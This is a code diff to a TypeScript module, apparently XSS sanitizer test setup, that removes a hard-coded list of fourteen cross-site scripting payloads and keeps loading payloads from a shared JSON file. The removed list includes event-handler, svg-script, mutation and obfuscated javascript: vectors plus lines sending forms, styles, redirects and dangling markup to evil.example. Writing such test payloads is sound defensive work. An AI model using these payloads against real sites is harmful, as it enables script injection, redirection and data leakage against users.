@@ -2,24 +2,6 @@ import { existsSync, readFileSync } from 'node:fs';
 import { fileURLToPath } from 'node:url';
 import { z } from 'zod';
 
-/** What goes wrong most often, in our own words. */
-export const OWN_PAYLOADS: readonly string[] = [
-  '<img src=x onerror="window.__pwn=1">',
-  '<p onclick="window.__pwn=1">words</p>',
-  '<svg><script>window.__pwn=1</script></svg>',
-  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__pwn=1&gt;">',
-  '<a href="jav&#x09;ascript:window.__pwn=1">x</a>',
-  '<form action="https://evil.example"><input name=attributes></form>',
-  '<base href="https://evil.example/"><a href="/x">x</a>',
-  '<style>@import "https://evil.example/a.css"</style>',
-  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
-  '<p id="createElement"><a name="body" href="https://ok.example">x</a></p>',
-  "<img src='https://evil.example/?",
-  '<img src="data:image/svg+xml,<svg onload=window.__pwn=1>">',
-  '<iframe srcdoc="<script>parent.__pwn=1</script>"></iframe>',
-  '<p style="background:url(https://evil.example/a.png)" onclick="window.__pwn=1">x</p>',
-];
-
 /** Others are beside the project where the project is checked; elsewhere there are none. */
 const FILE = fileURLToPath(new URL('../../../shared/xss/payloads.json', import.meta.url));
 const listed = z.array(z.object({ payload: z.string() })).nonempty();
